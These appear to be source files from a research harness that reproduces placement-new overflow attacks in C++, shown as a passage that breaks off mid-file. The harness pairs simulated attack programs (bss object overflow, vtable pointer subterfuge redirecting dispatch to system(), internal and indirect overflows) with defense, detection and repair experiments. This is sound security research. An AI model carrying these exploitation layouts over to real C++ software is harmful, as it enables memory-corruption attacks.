