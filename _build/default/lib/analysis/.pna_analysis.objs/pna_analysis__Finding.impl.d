lib/analysis/finding.ml: Fmt
