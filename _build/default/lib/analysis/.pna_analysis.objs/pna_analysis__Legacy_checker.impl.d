lib/analysis/legacy_checker.ml: Ctype Finding Fmt Hashtbl List Pna_layout Pna_minicpp
