(** A baseline modelled on the pre-2011 generation of static checkers the
    paper lists (ITS4, Flawfinder, ...): lexical/string-operation focused.

    It knows that [strcpy] is unbounded, and it can compare a literal
    [strncpy]/[memcpy] length against a lexically-declared destination
    array. It has no model of placement new whatsoever — which is the
    paper's point ("none of the existing tools can detect buffer overflow
    vulnerabilities due to placement new"). *)

open Pna_layout
module Ast = Pna_minicpp.Ast

type ctx = {
  prog : Ast.program;
  decls : (string, Ctype.t) Hashtbl.t;
  mutable cur_func : string;
  mutable findings : Finding.t list;
}

let report ctx kind fmt =
  Fmt.kstr
    (fun message ->
      ctx.findings <-
        { Finding.kind; func = ctx.cur_func; message } :: ctx.findings)
    fmt

(* capacity of a lexically-visible char-array destination *)
let dest_capacity ctx = function
  | Ast.Var x -> (
    match Hashtbl.find_opt ctx.decls x with
    | Some (Ctype.Array (_, k)) -> Some (k, x)
    | _ -> (
      match List.find_opt (fun g -> g.Ast.g_name = x) ctx.prog.Ast.p_globals with
      | Some { Ast.g_type = Ctype.Array (_, k); _ } -> Some (k, x)
      | _ -> None))
  | _ -> None

let literal_len = function Ast.Int n -> Some n | _ -> None

let on_expr ctx () (e : Ast.expr) =
  match e with
  | Ast.Call ("strcpy", [ dst; _ ]) ->
    let where =
      match dst with Ast.Var x -> x | _ -> "<expression>"
    in
    report ctx Finding.String_misuse
      "strcpy into %s: unbounded copy (use strncpy)" where
  | Ast.Call (("strncpy" | "memcpy") as fn, [ dst; _; len ]) -> (
    match (dest_capacity ctx dst, literal_len len) with
    | Some (cap, name), Some n when n > cap ->
      report ctx Finding.String_misuse
        "%s of %d bytes into %d-byte array %s" fn n cap name
    | Some _, Some _ -> () (* literal length fits: silent *)
    | Some (_, name), None ->
      report ctx Finding.String_misuse
        "%s into %s with non-constant length" fn name
    | None, _ ->
      (* destination is a pointer of unknown extent: the tool stays
         silent — it cannot see the placement-new arena behind it *)
      ())
  | _ -> ()

let on_stmt ctx () (s : Ast.stmt) =
  match s with
  | Ast.Decl (x, ty, _) -> Hashtbl.replace ctx.decls x ty
  | Ast.Decl_obj (x, cname, _) -> Hashtbl.replace ctx.decls x (Ctype.Class cname)
  | _ -> ()

let analyze (prog : Ast.program) : Finding.t list =
  let ctx =
    { prog; decls = Hashtbl.create 16; cur_func = ""; findings = [] }
  in
  List.iter
    (fun fn ->
      ctx.cur_func <- fn.Ast.fn_name;
      List.iter
        (fun (p, ty) -> Hashtbl.replace ctx.decls p ty)
        fn.Ast.fn_params;
      ignore (Ast.fold_stmts (on_stmt ctx) (on_expr ctx) () fn.Ast.fn_body))
    prog.Ast.p_funcs;
  List.rev ctx.findings

(* Findings that would have caught the placement-new vulnerability class:
   by construction, none — the tool has no placement model. *)
let actionable prog = List.filter Finding.actionable (analyze prog)
