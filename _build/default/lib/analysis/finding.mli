(** Findings produced by the static checkers. *)

type kind =
  | Overflow_certain  (** placed footprint provably exceeds the arena *)
  | Overflow_possible
  | Tainted_size  (** attacker input reaches a placement/copy size *)
  | Copy_overflow  (** remote-bounded copy loop past a fixed member *)
  | Info_leak
  | Memory_leak
  | Misalignment  (** placement target alignment weaker than required (§2.5) *)
  | Unchecked_placement  (** informational audit record *)
  | String_misuse  (** legacy-checker finding *)

type severity = High | Medium | Info

type t = { kind : kind; func : string; message : string }

val severity_of : kind -> severity
val kind_name : kind -> string
val severity_name : severity -> string
val v : kind -> string -> ('a, Format.formatter, unit, t) format4 -> 'a
val severity : t -> severity
val pp : Format.formatter -> t -> unit

val actionable : t -> bool
(** High or Medium. *)
