(** Statement-level execution profiling over the interpreter's [on_stmt]
    hook: which functions ran, how many statements of each kind. *)

type t = {
  per_func : (string, int) Hashtbl.t;
  per_kind : (string, int) Hashtbl.t;
  mutable total : int;
}

val create : unit -> t

val hook : t -> string -> Pna_minicpp.Ast.stmt -> unit
(** Feed this to {!Pna_minicpp.Interp.run}'s [on_stmt]. *)

val collector : unit -> t * (string -> Pna_minicpp.Ast.stmt -> unit)
(** A fresh collector and its hook, in one call. *)

type func_row = {
  cf_name : string;
  cf_executed : int;  (** dynamic count, with repeats *)
  cf_static : int;  (** statements in the body *)
  cf_entered : bool;
}

val report : t -> Pna_minicpp.Ast.program -> func_row list
val functions_entered : t -> int
val pp : Format.formatter -> t * Pna_minicpp.Ast.program -> unit
