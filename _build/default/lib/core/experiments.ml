(** The experiment suite: one runner per row of DESIGN.md's per-experiment
    index (E1–E8). Each returns structured results and has a printer that
    regenerates the corresponding table of EXPERIMENTS.md. *)

module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module Heap = Pna_machine.Heap
module Interp = Pna_minicpp.Interp
module Outcome = Pna_minicpp.Outcome
module Audit = Pna_analysis.Audit
module Finding = Pna_analysis.Finding

(* ------------------------------------------------------------------ *)
(* E1: every attack succeeds with defenses off                          *)

let e1 () = List.map (fun a -> Driver.run ~config:Config.none a) All.attacks

let pp_e1 ppf results =
  Fmt.pf ppf "@[<v>E1 — attack demonstrations (defenses off)@,%s@," (String.make 100 '-');
  List.iter
    (fun (r : Driver.result) ->
      let a = r.Driver.attack in
      Fmt.pf ppf "%-14s L%-3s %-9s %-8s %a@,"
        a.Catalog.id
        (match a.Catalog.listing with Some l -> string_of_int l | None -> "--")
        (Catalog.segment_name a.Catalog.segment)
        (if r.Driver.verdict.Catalog.success then "SUCCESS" else "FAILED")
        Outcome.pp_status r.Driver.outcome.Outcome.status)
    results;
  let ok =
    List.length (List.filter (fun r -> r.Driver.verdict.Catalog.success) results)
  in
  Fmt.pf ppf "=> %d/%d attacks demonstrated@]" ok (List.length results)

(* ------------------------------------------------------------------ *)
(* E2/E3: the StackGuard experiment of §5.2                             *)

type stackguard_trial = {
  label : string;
  config : Config.t;
  result : Driver.result;
  detected : bool;
  hijacked : bool;
}

let stackguard_trial label config attack =
  let result = Driver.run ~config attack in
  {
    label;
    config;
    result;
    detected =
      (match result.Driver.outcome.Outcome.status with
      | Outcome.Stack_smashing_detected -> true
      | _ -> false);
    hijacked = Outcome.hijacked result.Driver.outcome;
  }

let e2_e3 () =
  [
    stackguard_trial "naive smash, no protection" Config.none
      Pna_attacks.L13_stack_ret.attack;
    stackguard_trial "naive smash, StackGuard" Config.stackguard
      Pna_attacks.L13_stack_ret.attack;
    stackguard_trial "selective overwrite, no protection" Config.none
      Pna_attacks.L13_stack_ret.bypass;
    stackguard_trial "selective overwrite, StackGuard" Config.stackguard
      Pna_attacks.L13_stack_ret.bypass;
  ]

let pp_e2_e3 ppf trials =
  Fmt.pf ppf "@[<v>E2/E3 — StackGuard vs the placement-new stack smash (§5.2)@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun t ->
      Fmt.pf ppf "%-36s detected=%-5b hijacked=%-5b (%a)@," t.label t.detected
        t.hijacked Outcome.pp_status t.result.Driver.outcome.Outcome.status)
    trials;
  Fmt.pf ppf
    "=> StackGuard stops the naive smash but NOT the selective overwrite \
     (paper: \"We succeeded, and StackGuard could not detect it\")@]"

(* ------------------------------------------------------------------ *)
(* E4: information leakage sizes (§4.3)                                 *)

type leak_row = {
  leak_attack : string;
  leak_config : string;
  secret_leaked : bool;
  stale_bytes : int;  (** arena bytes beyond the newly placed footprint *)
}

let stale_bytes_of (o : Outcome.t) =
  List.fold_left
    (fun acc e ->
      match e with
      | Event.Placement { size; arena = Some a; _ } when a > size ->
        max acc (a - size)
      | _ -> acc)
    0 o.Outcome.events

let e4 () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.map
        (fun config ->
          let r = Driver.run ~config a in
          {
            leak_attack = a.Catalog.id;
            leak_config = config.Config.name;
            secret_leaked = r.Driver.verdict.Catalog.success;
            stale_bytes = stale_bytes_of r.Driver.outcome;
          })
        [ Config.none; Config.sanitize ])
    [ Pna_attacks.L21_leak_array.attack; Pna_attacks.L22_leak_object.attack ]

let pp_e4 ppf rows =
  Fmt.pf ppf "@[<v>E4 — information leakage (§4.3)@,%s@," (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "%-12s under %-9s leaked=%-5b stale window=%d bytes@,"
        r.leak_attack r.leak_config r.secret_leaked r.stale_bytes)
    rows;
  Fmt.pf ppf "=> leak window = sizeof(old) - sizeof(new); sanitization closes it@]"

(* ------------------------------------------------------------------ *)
(* E5: DoS response-time curve (§4.4)                                   *)

type dos_row = { forced_n : int; steps : int; status : Outcome.status }

(* Drive the Listing-15 server with attacker-chosen loop bounds and watch
   the work per request grow linearly until the request never finishes. *)
let e5 ?(bounds = [ 5; 100; 10_000; 1_000_000; 0x3fffffff ]) () =
  List.map
    (fun n ->
      let o =
        Interp.execute ~config:Config.none ~max_steps:5_000_000
          ~input_ints:[ n ] Pna_attacks.L15_stack_var.program_
      in
      { forced_n = n; steps = o.Outcome.steps; status = o.Outcome.status })
    bounds

let pp_e5 ppf rows =
  Fmt.pf ppf "@[<v>E5 — DoS via overwritten loop bound (§4.4)@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "forced n=%-10d -> %8d interpreter steps (%a)@," r.forced_n
        r.steps Outcome.pp_status r.status)
    rows;
  Fmt.pf ppf "=> response time grows linearly in the attacker's n until timeout@]"

(* ------------------------------------------------------------------ *)
(* E6: memory-leak growth (§4.5)                                        *)

type memleak_row = {
  iterations : int;
  leaked : int;
  predicted : int;
  heap_in_use : int;
}

let e6 ?(points = [ 0; 50; 100; 200; 400; 800 ]) () =
  List.map
    (fun iters ->
      let m =
        Interp.load ~config:Config.none
          (Pna_attacks.L23_memleak.mk_program ~checked:false)
      in
      Machine.set_input ~ints:[ iters ] ~strings:[] m;
      let _o =
        Interp.run ~max_steps:50_000_000 m
          (Pna_attacks.L23_memleak.mk_program ~checked:false)
          ~entry:"main"
      in
      {
        iterations = iters;
        leaked = Machine.leaked_bytes m;
        predicted = iters * Pna_attacks.L23_memleak.leak_per_iter;
        heap_in_use = (Machine.heap_stats m).Heap.in_use;
      })
    points

let pp_e6 ppf rows =
  Fmt.pf ppf "@[<v>E6 — memory leak growth (§4.5)@,%s@," (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf
        "iterations=%-5d leaked=%-7d predicted=%-7d in_use=%-7d %s@,"
        r.iterations r.leaked r.predicted r.heap_in_use
        (if r.leaked = r.predicted then "(exact)" else "(MISMATCH)"))
    rows;
  Fmt.pf ppf
    "=> leaked bytes = iterations x (sizeof(GradStudent) - sizeof(Student))@]"

(* ------------------------------------------------------------------ *)
(* E7: static detection (§1 claim + §7 future-work tool)                *)

type detect_row = {
  d_attack : string;
  ours : bool;
  legacy : bool;
  hardened_clean : bool option;
      (** Some true: hardened variant exists and is not flagged *)
}

let e7 () =
  List.map
    (fun (a : Catalog.t) ->
      let kinds = Audit.relevant_kinds a.Catalog.id in
      let r = Audit.analyze a.Catalog.program in
      {
        d_attack = a.Catalog.id;
        ours = Audit.flags kinds r.Audit.placement;
        legacy = Audit.flags kinds r.Audit.legacy;
        hardened_clean =
          Option.map
            (fun h ->
              not (Audit.flags kinds (Audit.analyze h).Audit.placement))
            a.Catalog.hardened;
      })
    All.attacks

let pp_e7 ppf rows =
  Fmt.pf ppf
    "@[<v>E7 — static detection: placement checker vs string-op baseline@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "%-14s ours=%-8s legacy=%-8s hardened=%s@," r.d_attack
        (if r.ours then "FLAGGED" else "MISSED")
        (if r.legacy then "flagged" else "silent")
        (match r.hardened_clean with
        | None -> "n/a"
        | Some true -> "clean"
        | Some false -> "FALSE-POSITIVE"))
    rows;
  let n = List.length rows in
  let ours = List.length (List.filter (fun r -> r.ours) rows) in
  let legacy = List.length (List.filter (fun r -> r.legacy) rows) in
  let fps =
    List.length (List.filter (fun r -> r.hardened_clean = Some false) rows)
  in
  Fmt.pf ppf
    "=> placement checker: %d/%d; legacy baseline: %d/%d; false positives on \
     hardened variants: %d@]"
    ours n legacy n fps

(* ------------------------------------------------------------------ *)
(* E8: defense efficacy matrix + overhead                               *)

type cell = Win | Blocked of string | Neutralized of string

let e8_matrix ?(configs = Config.all) () =
  List.map
    (fun (a : Catalog.t) ->
      ( a,
        List.map
          (fun config ->
            let r = Driver.run ~config a in
            let cell =
              if r.Driver.verdict.Catalog.success then Win
              else
                match r.Driver.outcome.Outcome.status with
                | Outcome.Stack_smashing_detected -> Blocked "canary"
                | Outcome.Defense_blocked d -> Blocked d
                | st -> Neutralized (Fmt.str "%a" Outcome.pp_status st)
            in
            (config, cell))
          configs ))
    All.attacks

let pp_e8_matrix ppf matrix =
  Fmt.pf ppf "@[<v>E8 — attack x defense matrix@,";
  (match matrix with
  | (_, cells) :: _ ->
    Fmt.pf ppf "%-14s" "attack";
    List.iter (fun (c, _) -> Fmt.pf ppf "%-14s" c.Config.name) cells;
    Fmt.pf ppf "@,%s@," (String.make (14 + (14 * List.length cells)) '-')
  | [] -> ());
  List.iter
    (fun ((a : Catalog.t), cells) ->
      Fmt.pf ppf "%-14s" a.Catalog.id;
      List.iter
        (fun (_, cell) ->
          Fmt.pf ppf "%-14s"
            (match cell with
            | Win -> "ATTACK-WINS"
            | Blocked d -> d
            | Neutralized _ -> "no-effect"))
        cells;
      Fmt.pf ppf "@,")
    matrix;
  Fmt.pf ppf "@]"

(* Overhead: interpreter steps are identical across configs (the defenses
   act inside machine primitives), so the bench harness times wall-clock;
   here we expose the workload runner and a steps-based sanity count. *)
let e8_overhead ?(n = 2_000) () =
  List.map
    (fun config ->
      let o = Workloads.run ~config Workloads.pool_server ~n in
      (config, o.Outcome.status, o.Outcome.steps))
    (Config.all @ [ Config.pool_discipline ])

let pp_e8_overhead ppf rows =
  Fmt.pf ppf "@[<v>E8 — benign pool-server workload under each defense@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun (c, status, steps) ->
      Fmt.pf ppf "%-16s %a (%d steps)@," c.Config.name Outcome.pp_status status
        steps)
    rows;
  Fmt.pf ppf "=> all defenses pass the benign workload; timing in bench/main.exe@]"

(* ------------------------------------------------------------------ *)
(* E9 (extension): random testing vs the directed attacker              *)

type fuzz_tally = {
  f_trials : int;
  f_clean : int;
  f_crashed : int;
  f_exploited : int;  (** arc or code injection found by luck *)
  directed_works : bool;
  statically_flagged : bool;
}

(* Fuzz the Listing-13 server with random SSN triples (Haugh & Bishop's
   testing approach, paper ref [11]): dynamic testing observes crashes,
   essentially never exploitability; the directed attacker needs one
   attempt; the static checker none. *)
let e9 ?(trials = 500) () =
  let prog = Pna_attacks.L13_stack_ret.mk_program ~checked:false in
  let rng = Random.State.make [| 0x5eed |] in
  let rand31 () =
    (Random.State.bits rng lsl 1 lxor Random.State.bits rng) land 0x7fffffff
  in
  let clean = ref 0 and crashed = ref 0 and exploited = ref 0 in
  for _ = 1 to trials do
    let ints = List.init 3 (fun _ -> rand31 ()) in
    let o = Interp.execute ~config:Config.none ~input_ints:ints prog in
    match o.Outcome.status with
    | Outcome.Exited _ -> incr clean
    | Outcome.Crashed _ -> incr crashed
    | Outcome.Arc_injection _ | Outcome.Code_injection _ -> incr exploited
    | _ -> ()
  done;
  let directed = Driver.run Pna_attacks.L13_stack_ret.attack in
  {
    f_trials = trials;
    f_clean = !clean;
    f_crashed = !crashed;
    f_exploited = !exploited;
    directed_works = directed.Driver.verdict.Catalog.success;
    statically_flagged =
      Pna_analysis.Placement_checker.actionable prog <> [];
  }

let pp_e9 ppf t =
  Fmt.pf ppf
    "@[<v>E9 — random testing vs directed attack vs static analysis@,%s@,     fuzz trials: %d -> clean=%d crashed=%d exploited=%d@,     directed attacker: %s in one attempt@,     static checker: %s without executing@,     => fuzzing sees crashes, not exploitability@]"
    (String.make 100 '-') t.f_trials t.f_clean t.f_crashed t.f_exploited
    (if t.directed_works then "succeeds" else "fails")
    (if t.statically_flagged then "flags the defect" else "misses it")

(* ------------------------------------------------------------------ *)
(* E10 (extension): automatic repair — the §7 tool's second half         *)

type repair_row = {
  r_attack : string;
  repairs : int;
  neutralized : bool;
  residual_flagged : bool;
      (** when the attack survives, does the checker still flag the
          hardened program? (soundness hand-off) *)
}

let e10 () =
  List.map
    (fun (a : Catalog.t) ->
      let h = Pna_analysis.Hardener.harden a.Catalog.program in
      let r =
        Driver.run ~config:Config.none
          { a with Catalog.program = h; Catalog.hardened = None }
      in
      let survived = r.Driver.verdict.Catalog.success in
      {
        r_attack = a.Catalog.id;
        repairs = Pna_analysis.Hardener.count_repairs a.Catalog.program;
        neutralized = not survived;
        residual_flagged =
          (not survived)
          || Pna_analysis.Placement_checker.actionable h <> [];
      })
    All.attacks

let pp_e10 ppf rows =
  Fmt.pf ppf
    "@[<v>E10 — automatic repair (§7: \"automatically addressing these \
     vulnerabilities\")@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "%-14s repairs=%d %s%s@," r.r_attack r.repairs
        (if r.neutralized then "neutralized" else "SURVIVES (out of scope)")
        (if r.residual_flagged then "" else "  [SILENT GAP!]"))
    rows;
  let fixed = List.length (List.filter (fun r -> r.neutralized) rows) in
  Fmt.pf ppf
    "=> %d/%d attacks neutralized by source repair; every survivor is still \
     flagged by the checker@]"
    fixed (List.length rows)

(* ------------------------------------------------------------------ *)

let run_all ppf () =
  Fmt.pf ppf "%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@." pp_e1
    (e1 ()) pp_e2_e3 (e2_e3 ()) pp_e4 (e4 ()) pp_e5 (e5 ()) pp_e6 (e6 ())
    pp_e7 (e7 ()) pp_e8_matrix (e8_matrix ()) pp_e8_overhead (e8_overhead ())
    pp_e9 (e9 ());
  Fmt.pf ppf "@.%a@." pp_e10 (e10 ())
