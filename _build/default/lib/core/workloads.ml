(** Benign MiniC++ workloads used to measure defense overhead (E8) and
    substrate throughput. These use placement new the way its §2.1 use
    cases intend: equal-size reuse of a memory pool, so every defense
    passes them and the measured cost is pure overhead. *)

open Pna_minicpp.Dsl
module Schema = Pna_attacks.Schema

(* A server loop: per request, call a handler that places a Student into a
   pool slot of exactly the right size, fills it, and copies a fixed-size
   username. [requests] comes from input so one program serves all sizes. *)
let pool_server =
  program ~classes:[ Schema.student ]
    ~globals:
      [
        global "pool" (char_arr 16);
        global "uname" (char_arr 16);
        global "served" int;
      ]
    [
      func "Student::ctor"
        ~params:[ ("this", ptr (cls "Student")) ]
        [
          set (arrow (v "this") "gpa") (fl 0.0);
          set (arrow (v "this") "year") (i 0);
          set (arrow (v "this") "semester") (i 0);
        ];
      func "handle" ~params:[ ("req", int) ]
        [
          decli "s" (ptr (cls "Student")) (pnew (v "pool") (cls "Student") []);
          set (arrow (v "s") "year") (v "req");
          set (arrow (v "s") "semester") (v "req" %: i 8);
          expr (call "strncpy" [ v "uname"; str "benign-user" ; i 12 ]);
          set (v "served") (v "served" +: i 1);
        ];
      func "main"
        [
          decli "n" int cin;
          for_
            (decli "j" int (i 0))
            (v "j" <: v "n")
            (set (v "j") (v "j" +: i 1))
            [ expr (call "handle" [ v "j" ]) ];
          ret (v "served");
        ];
    ]

(* Heap churn: allocate/free pairs, exercising the free-list allocator. *)
let heap_churn =
  program ~classes:Schema.base_classes
    ~globals:[ global "p" (ptr (cls "GradStudent")) ]
    (Schema.base_funcs
    @ [
        func "main"
          [
            decli "n" int cin;
            for_
              (decli "j" int (i 0))
              (v "j" <: v "n")
              (set (v "j") (v "j" +: i 1))
              [
                set (v "p") (new_ (cls "GradStudent") []);
                delete (v "p");
              ];
            ret (i 0);
          ];
      ])

let run ?(config = Pna_defense.Config.none) prog ~n =
  Pna_minicpp.Interp.execute ~max_steps:50_000_000 ~config ~input_ints:[ n ] prog
