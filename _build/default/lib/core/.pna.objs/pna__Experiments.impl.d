lib/core/experiments.ml: Fmt List Option Pna_analysis Pna_attacks Pna_defense Pna_machine Pna_minicpp Random String Workloads
