lib/core/coverage.ml: Fmt Hashtbl List Option Pna_minicpp
