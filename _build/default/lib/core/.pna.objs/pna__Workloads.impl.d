lib/core/workloads.ml: Pna_attacks Pna_defense Pna_minicpp
