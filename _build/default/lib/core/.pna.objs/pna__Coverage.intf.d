lib/core/coverage.mli: Format Hashtbl Pna_minicpp
