(** §3.5, Listing 11 — Data/bss overflow.

    Two [Student] globals sit next to each other in bss. Placing a
    [GradStudent] at [&stud1] makes its [ssn] array alias the first 12
    bytes of [stud2]: ssn[0]/ssn[1] are stud2.gpa, ssn[2] is stud2.year.
    The attacker-supplied SSN therefore rewrites stud2's GPA and year. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let attack_year = 2012

let add_student ~checked =
  let place_grad =
    [
      decli "st"
        (ptr (cls "GradStudent"))
        (pnew (addr (v "stud1")) (cls "GradStudent") [ fl 4.0; i 2009; i 1 ]);
      expr (mcall (v "st") "setSSN" [ cin; cin; cin ]);
    ]
  in
  let grad_branch =
    if checked then
      (* §5.1 correct coding: compare sizes, fall back to plain new *)
      [
        if_
          (sizeof (cls "GradStudent") <=: sizeof (cls "Student"))
          place_grad
          [
            decli "st"
              (ptr (cls "GradStudent"))
              (new_ (cls "GradStudent") [ fl 4.0; i 2009; i 1 ]);
            expr (mcall (v "st") "setSSN" [ cin; cin; cin ]);
            delete (v "st");
          ];
      ]
    else place_grad
  in
  func "addStudent"
    [
      if_ (v "isGradStudent") grad_branch
        [ expr (pnew (addr (v "stud2")) (cls "Student") [ cin; cin; cin ]) ];
    ]

let mk_program ~checked =
  program ~classes:Schema.base_classes
    ~globals:
      [
        global "stud1" (cls "Student");
        global "stud2" (cls "Student");
        global "isGradStudent" int;
      ]
    (Schema.base_funcs
    @ [
        add_student ~checked;
        func "main"
          [
            set (v "isGradStudent") (i 0);
            expr (call "addStudent" []);
            set (v "isGradStudent") (i 1);
            expr (call "addStudent" []);
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  let stud2 = D.global_addr m "stud2" in
  let year = D.u32 m (stud2 + 8) in
  let gpa_lo = D.u32 m stud2 in
  if
    O.exited_normally o && year = attack_year
    && gpa_lo = Schema.junk0
    && D.tainted m stud2 12
  then
    C.success "stud2.gpa=0x%08x%08x stud2.year=%d, all attacker-tainted"
      (D.u32 m (stud2 + 4))
      gpa_lo year
  else
    C.failure "stud2 intact (year=%d, status %a)" year O.pp_status o.O.status

let attack =
  C.make ~id:"L11-bss" ~listing:11 ~section:"3.5" ~name:"data/bss object overflow"
    ~segment:C.Data_bss
    ~goal:"overwrite the gpa and year of an adjacent global object"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m ->
      (* benign enrolment (gpa=4, 2009, sem 1), then the malicious SSN *)
      ([ 4; 2009; 1; Schema.junk0; Schema.junk1; attack_year ], []))
    ~check ()
