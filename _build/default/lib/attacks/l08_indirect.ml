(** §3.3, Listings 8/9 — Object overflow via indirect construction.

    The received object never reaches placement new directly: it is first
    copied into a fresh heap object [obj2], and *that* object is used to
    copy-construct the placed instance. The data-flow path
    remote → obj2 → placed object still carries the attacker's bytes past
    the arena. This variant exists chiefly to stress inter-procedural
    reasoning in detectors (§5.1). *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let attacker_word = 0x66600666

let program_ =
  program ~classes:Schema.base_classes
    ~globals:[ global "stud" (cls "Student"); global "audit_mode" int ]
    (Schema.base_funcs
    @ [
        func "addStudent" ~params:[ ("remoteobj", ptr (cls "Student")) ]
          [
            (* Someclass *obj2 = new Someclass(remoteobj); *)
            decli "obj2" (ptr (cls "GradStudent"))
              (new_ (cls "GradStudent") [ v "remoteobj" ]);
            (* ... obj2 reaches the placement at a later program point *)
            decli "st" (ptr (cls "Student"))
              (pnew (addr (v "stud")) (cls "GradStudent") [ v "obj2" ]);
            delete (v "obj2");
          ];
        func "main"
          [
            decli "remote" (ptr (cls "GradStudent")) (new_ (cls "GradStudent") []);
            expr (mcall (v "remote") "setSSN" [ cin; cin; cin ]);
            expr (call "addStudent" [ v "remote" ]);
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  let word = D.global_u32 m "audit_mode" in
  if O.exited_normally o && word = attacker_word && D.global_tainted m "audit_mode" 4
  then C.success "audit_mode overwritten through remote->obj2->placed path"
  else C.failure "audit_mode=0x%08x (status %a)" word O.pp_status o.O.status

let attack =
  C.make ~id:"L08-indirect" ~listing:8 ~section:"3.3"
    ~name:"overflow via indirect construction" ~segment:C.Data_bss
    ~goal:"attacker bytes flow through an intermediate copy before placement"
    ~program:program_
    ~mk_input:(fun _m -> ([ attacker_word; 0x1111; 0x2222 ], []))
    ~check ()
