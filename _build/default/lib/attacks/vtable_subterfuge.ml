(** §3.8.2 — Virtual table pointer subterfuge.

    With the virtual classes, the hidden vtable pointer is the first word
    of every object. An overflow that reaches an adjacent object's first
    word therefore redirects its dynamic dispatch.

    - [bss]: stud1/stud2 are polymorphic globals; the GradStudentV placed
      over stud1 writes ssn[0] onto stud2's vptr. The attacker points the
      vptr *into stud1's own ssn area*, where ssn[1] acts as the fake
      vtable slot holding the address of system(): the next
      stud2.getInfo() call becomes an arc injection.
    - [stack]: the Listing-16 shape with polymorphic classes; the attacker
      writes an invalid vptr and the dispatch crashes (the paper's "or even
      crash the program by supplying an invalid address"). *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module O = Pna_minicpp.Outcome

let bss_program =
  program ~classes:Schema.virtual_classes
    ~globals:[ global "stud1" (cls "StudentV"); global "stud2" (cls "StudentV") ]
    (Schema.virtual_funcs
    @ [
        func "main"
          [
            (* construct stud2 properly: equal-size placement, no overflow *)
            expr (pnew (addr (v "stud2")) (cls "StudentV") []);
            decli "gs"
              (ptr (cls "GradStudentV"))
              (pnew (addr (v "stud1")) (cls "GradStudentV") []);
            expr (mcall (v "gs") "setSSN" [ cin; cin; cin ]);
            (* dynamic dispatch through stud2's (now corrupted) vptr *)
            decli "r" int (mcall (v "stud2") "getInfo" []);
            ret (v "r");
          ];
      ])

let bss_input m =
  (* fake vtable = &stud1.ssn[1]; its slot 0 holds system()'s address *)
  let stud1 = Machine.global_addr_exn m "stud1" in
  let fake_vtable = stud1 + 28 in
  let system_addr = Machine.function_addr m "system" in
  ([ fake_vtable; system_addr; 0 ], [])

let bss =
  C.make ~id:"VT-bss" ~section:"3.8.2" ~name:"vtable subterfuge via bss overflow"
    ~segment:C.Data_bss
    ~goal:"point an adjacent object's vptr at a fake vtable -> system()"
    ~program:bss_program ~mk_input:bss_input
    ~check:(C.expect_arc ~via:O.Vtable ~symbol:"system") ()

let stack_program =
  program ~classes:Schema.virtual_classes
    ~globals:[ global "isGradStudent" int ]
    (Schema.virtual_funcs
    @ [
        func "addStudent"
          [
            obj "first" "StudentV" [];
            obj "stud" "StudentV" [];
            when_ (v "isGradStudent")
              [
                decli "gs"
                  (ptr (cls "GradStudentV"))
                  (pnew (addr (v "stud")) (cls "GradStudentV") []);
                (* ssn[0] aliases first.__vptr *)
                set (idx (arrow (v "gs") "ssn") (i 0)) cin;
              ];
            decli "r" int (mcall (v "first") "getInfo" []);
          ];
        func "main"
          [ set (v "isGradStudent") (i 1); expr (call "addStudent" []); ret (i 0) ];
      ])

let stack_check _m (o : O.t) =
  let hijacked =
    List.exists
      (function Event.Vptr_hijacked { tainted; _ } -> tainted | _ -> false)
      o.O.events
  in
  match o.O.status with
  | O.Crashed _ when hijacked ->
    C.success "dispatch went through the attacker's invalid vptr and crashed"
  | st when hijacked -> C.success "dispatch hijacked (%a)" O.pp_status st
  | st -> C.failure "vptr intact (status %a)" O.pp_status st

let stack =
  C.make ~id:"VT-stack" ~section:"3.8.2"
    ~name:"vtable subterfuge via stack overflow" ~segment:C.Stack
    ~goal:"corrupt a stack object's vptr; next virtual call is attacker-steered"
    ~program:stack_program
    ~mk_input:(fun _m -> ([ 0x0deadbe8 ], []))
    ~check:stack_check ()
