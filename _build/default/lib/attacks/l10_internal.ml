(** §3.4, Listing 10 — Internal overflow.

    [MobilePlayer] aggregates two [Student] members and a counter. Placing
    a [GradStudent] over [this->stud1] overflows *inside* the enclosing
    object: the SSN lands on [stud2]'s gpa/year, silently corrupting the
    object's internal state while the object as a whole stays "valid". *)

open Pna_minicpp.Dsl
open Pna_layout
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let mobile_player =
  Class_def.v "MobilePlayer"
    ~methods:
      [ Class_def.plain_method ~impl:"MobilePlayer::addStudentPlayer" "addStudentPlayer" ]
    [ ("stud1", cls "Student"); ("stud2", cls "Student"); ("n", int) ]

let program_ =
  program
    ~classes:(Schema.base_classes @ [ mobile_player ])
    ~globals:[ global "player" (cls "MobilePlayer") ]
    (Schema.base_funcs
    @ [
        func "MobilePlayer::addStudentPlayer"
          ~params:
            [ ("this", ptr (cls "MobilePlayer")); ("stptr", ptr (cls "Student")) ]
          [
            decli "st"
              (ptr (cls "GradStudent"))
              (pnew (addr (arrow (v "this") "stud1")) (cls "GradStudent") [ v "stptr" ]);
            set (arrow (v "this") "n") (arrow (v "this") "n" +: i 1);
          ];
        func "main"
          [
            decli "remote" (ptr (cls "GradStudent")) (new_ (cls "GradStudent") []);
            expr (mcall (v "remote") "setSSN" [ cin; cin; cin ]);
